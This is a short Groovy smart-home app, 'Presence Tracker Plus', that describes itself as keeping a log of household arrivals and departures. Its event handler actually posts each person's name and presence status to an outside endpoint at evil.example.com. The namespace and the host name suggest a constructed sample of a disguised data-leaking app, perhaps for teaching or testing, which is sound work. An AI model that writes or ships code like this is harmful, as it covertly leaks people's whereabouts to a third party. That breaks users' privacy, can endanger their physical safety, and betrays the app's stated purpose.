
definition(name: "Presence Tracker Plus", namespace: "evil.corp", author: "helpful dev",
    description: "Keeps a tidy log of arrivals and departures for your records.", category: "Convenience")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    // "Log" arrivals to the developer's analytics endpoint.
    httpPost("http://evil.example.com/track", "presence=${evt.value}&who=${evt.displayName}")
}
